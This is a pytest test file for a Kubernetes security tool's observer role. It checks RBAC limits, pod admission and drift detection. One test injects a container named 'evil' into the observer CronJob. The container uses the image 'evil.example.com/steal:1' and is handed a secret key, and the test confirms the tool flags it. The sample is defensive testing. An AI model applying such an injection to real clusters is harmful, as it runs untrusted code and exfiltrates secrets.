"""The observer's objects let it do what it is for, and no more, on a real API server."""

import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.cluster.api_server import ApiServer
from tests.cluster.bench import ENVIRONMENT, Bench

OBSERVER = '  observer: {image: "tools/azsec:1.0.0"}\n'
NAMESPACE = "/api/v1/namespaces/azsec-observer"


@pytest.fixture
def bench(server: ApiServer, tmp_path: Path) -> Bench:
    made = Bench.open(server, tmp_path)
    made.write(ENVIRONMENT + OBSERVER)
    made.apply()
    return made


def _token(server: ApiServer) -> str:
    path = f"{NAMESPACE}/serviceaccounts/observer/token"
    body = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
    answer = server.request("POST", path, body)
    assert answer.ok, answer.text
    return answer.json()["status"]["token"]


def test_its_account_observes_all_but_secrets(bench: Bench) -> None:
    config = yaml.safe_load(bench.server.kubeconfig().read_text(encoding="utf-8"))
    config["users"][0]["user"]["token"] = _token(bench.server)
    path = bench.folder / "observer.kubeconfig"
    path.write_text(yaml.safe_dump(config), encoding="utf-8")
    to = ("--config-map", "azsec-observer/observation")
    done = bench.azsec("cluster", "observe", "--kubeconfig", str(path), *to)
    assert done.code == 0, "its job does not fail for what its role leaves out"
    assert "not observed" not in done.err
    assert "left out: secrets" in done.err
    found = bench.server.get(f"{NAMESPACE}/configmaps/observation")
    (bench.folder / "seen.json").write_text(json.dumps(found), encoding="utf-8")
    seen = bench.read("drift", "--observation", "seen.json", "-o", "json")
    assert not seen.document["census"]["unreadable"]
    assert seen.code == 0, seen.out
    assert not seen.document["additions"]
    assert not seen.document["drifted"]
    elsewhere = ("--config-map", "billing/observation")
    refused = bench.azsec("cluster", "observe", "--kubeconfig", str(path), *elsewhere)
    assert refused.code == 1
    assert "cannot patch" in refused.err


def test_its_pod_is_let_in(bench: Bench) -> None:
    done = bench.azsec("cluster", "observer", "billing")
    objects: list[dict[str, Any]] = [o for o in yaml.safe_load_all(done.out) if o]
    (job,) = [each for each in objects if each["kind"] == "CronJob"]
    spec = job["spec"]["jobTemplate"]["spec"]["template"]["spec"]
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "o"}, "spec": spec}
    answer = bench.server.request("POST", f"{NAMESPACE}/pods?dryRun=All", pod)
    assert answer.ok, answer.text


def test_without_an_observer_there_is_nothing_to_print(bench: Bench) -> None:
    bench.write(ENVIRONMENT)
    done = bench.azsec("cluster", "observer", "billing")
    assert done.code == 1
    assert "states no observer" in done.err


def test_a_container_put_into_its_job_is_seen_in_an_observation(bench: Bench) -> None:
    # Observed without the API server, the defaults of a job are not drift, and what is added is.
    observe = ("observe", "--out", "seen.json")
    read = ("drift", "--observation", "seen.json", "-o", "json")
    assert bench.run(*observe).code == 0
    assert bench.read(*read).code == 0
    template = "/spec/jobTemplate/spec/template/spec/containers/-"
    key = {"name": "K", "valueFrom": {"secretKeyRef": {"name": "azsec-observer", "key": "key"}}}
    container = {"name": "evil", "image": "evil.example.com/steal:1", "env": [key]}
    bench.server.patch(
        "/apis/batch/v1/namespaces/azsec-observer/cronjobs/observer",
        [
            {"op": "add", "path": template, "value": container},
            {"op": "add", "path": "/spec/suspend", "value": True},
        ],
        "json",
    )
    assert bench.run(*observe).code == 0
    found = bench.read(*read)
    assert found.code == 2, found.out
    assert {each["field"]["path"] for each in found.document["undeclared"]} == {
        "spec.suspend",
        "spec.jobTemplate.spec.template.spec.containers[evil]",
    }
